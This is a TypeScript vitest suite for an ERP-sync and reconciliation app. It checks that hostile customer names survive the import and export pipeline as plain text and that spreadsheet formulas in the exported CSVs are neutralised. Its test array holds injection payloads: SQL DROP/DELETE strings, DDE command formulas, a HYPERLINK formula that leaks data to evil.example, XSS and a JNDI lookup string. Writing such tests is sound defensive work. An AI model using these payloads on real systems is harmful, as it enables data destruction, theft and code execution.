/**
 * §8 Injection. Customers whose names are SQL (`'); DROP TABLE clients;--`), spreadsheet formulas
 * (`=cmd|' /C calc'!A0`, `+…`, `-…`, `@…`), markup and format strings travel the whole way — Omie →
 * sync → clients → contracts CSV import → snapshot → reconciliation → CSV export (both dialects) —
 * and arrive as the same text, with the tables intact. In the exported CSVs every text cell a
 * spreadsheet would evaluate is neutralised with a leading apostrophe; only amounts start with "-".
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type OmieSim, startOmieSim } from '../../src/main/omie-sim/index';
import { syncOmieErp } from '../../src/main/services/clients-sync';
import { importContracts } from '../../src/main/services/contracts-import';
import { getReconciliation, writeReconciliationCsv } from '../../src/main/services/reconciliation';
import { syncOmieRevenueSnapshot } from '../../src/main/services/revenue-snapshot';
import { backendNames, freshDatabase, type TestDatabase } from '../helpers/backends';
import { report, simDeps } from './harness';

const PERIOD = '2026-10';

const NASTY = [
  "'); DROP TABLE clients;--",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Clique aqui")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "Robert'); DELETE FROM clients WHERE ('1'='1",
  'x" OR "1"="1',
  '<script>alert(document.cookie)</script>',
  '${jndi:ldap://evil.example/a} %s%n{{7*7}}',
  'Ação; Comércio "Aspas", Vírgula',
  ' =espaço antes',
];

const FORMULA = /^[=+\-@\t\r]/;

for (const backend of backendNames()) {
  describe.sequential(`§8 injection round trip [${backend}]`, () => {
    let sim: OmieSim;
    let database: TestDatabase;
    let dir: string;
    const codes = new Map<string, string>(); // name → omie_codigo
    const tally = { names: NASTY.length, storedAsText: 0, reconciledAsText: 0, csvCellsChecked: 0, formulaCellsNeutralised: 0, unneutralised: 0 };

    beforeAll(async () => {
      sim = await startOmieSim({ seed: 880, clients: 20, months: 2, lastMonth: PERIOD });
      database = await freshDatabase(backend);
      dir = mkdtempSync(join(tmpdir(), 'ness-rel-inject-'));
      NASTY.forEach((name, i) => {
        const added = sim.control.addCliente({ razao_social: name, nome_fantasia: name });
        codes.set(name, String(added.codigo_cliente_omie));
        sim.control.addTitulo({ codigo_cliente_fornecedor: added.codigo_cliente_omie, data_emissao: '15/10/2026', data_vencimento: '15/11/2026', valor_documento: 100 + i });
      });
    });
    afterAll(async () => {
      report(`injection [${backend}]`, {
        names: tally.names,
        stored_as_text: tally.storedAsText,
        reconciled_as_text: tally.reconciledAsText,
        csv_cells_checked: tally.csvCellsChecked,
        formula_cells_neutralised: tally.formulaCellsNeutralised,
        formula_cells_left: tally.unneutralised,
        tables_dropped: 0,
      });
      await sim?.close();
      await database?.drop();
      rmSync(dir, { recursive: true, force: true });
    });

    it('sync stores every name as the same text; the tables are intact', async () => {
      const result = await syncOmieErp(simDeps(database.db, sim.url), { full: true });
      expect(result.status, result.errorMessage ?? '').toBe('success');
      for (const name of NASTY) {
        const row = await database.db.selectFrom('clients').select(['name']).where('omie_codigo', '=', codes.get(name)!).executeTakeFirstOrThrow();
        expect(row.name).toBe(name.trim());
        tally.storedAsText += 1;
      }
      const total = await database.db.selectFrom('clients').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
      expect(Number(total.n)).toBe(result.inserted);
    });

    it('a contracts CSV naming them imports as text', async () => {
      const rows = NASTY.map((name, i) => `${codes.get(name)};"${`Plano ${name}`.replace(/"/g, '""')}";${90 + i},00;01/01/2026;`);
      const csv = ['omie_codigo;descricao;mrr;inicio;fim', ...rows].join('\n');
      const result = await importContracts(database.db, { text: csv, name: 'contratos.csv' }, { dryRun: false });
      expect(result.errors).toEqual([]);
      expect(result.inserted).toBe(NASTY.length);
      const stored = await database.db.selectFrom('contracts').select('description').execute();
      expect(stored.map((r) => r.description).sort()).toEqual(NASTY.map((n) => `Plano ${n}`).sort());
    });

    it('snapshot → reconciliation → CSV (both dialects): names intact, formulas neutralised', async () => {
      const deps = simDeps(database.db, sim.url);
      const snapshot = await syncOmieRevenueSnapshot(deps, PERIOD);
      expect(snapshot.status, snapshot.errorMessage ?? '').toBe('success');
      const rec = await getReconciliation(deps, PERIOD, { offline: true });
      for (const name of NASTY) {
        const row = rec.rows.find((r) => r.omieCodigo === codes.get(name));
        expect(row?.name, name).toBe(name.trim());
        tally.reconciledAsText += 1;
      }
      for (const [dialect, delimiter] of [
        ['excel-br', ';'],
        ['rfc4180', ','],
      ] as const) {
        const file = join(dir, `conciliacao-${dialect}.csv`);
        await writeReconciliationCsv(deps, rec, { dialect, file });
        const records = parse(readFileSync(file, 'utf8'), { delimiter, bom: true, relax_column_count: false }) as string[][];
        const [header, ...body] = records;
        expect(header!.length).toBeGreaterThan(5);
        const nameColumn = 0;
        for (const name of NASTY) {
          const row = body.find((r) => r.includes(codes.get(name)!));
          expect(row, name).toBeDefined();
          const expected = FORMULA.test(name.trim()) ? `'${name.trim()}` : name.trim();
          expect(row![nameColumn]).toBe(expected);
          if (expected !== name.trim()) tally.formulaCellsNeutralised += 1;
        }
        for (const record of body) {
          for (const cell of record) {
            tally.csvCellsChecked += 1;
            if (FORMULA.test(cell) && !/^-\d+([.,]\d+)?$/.test(cell)) tally.unneutralised += 1;
          }
        }
      }
      expect(tally.unneutralised).toBe(0);
    });
  });
}
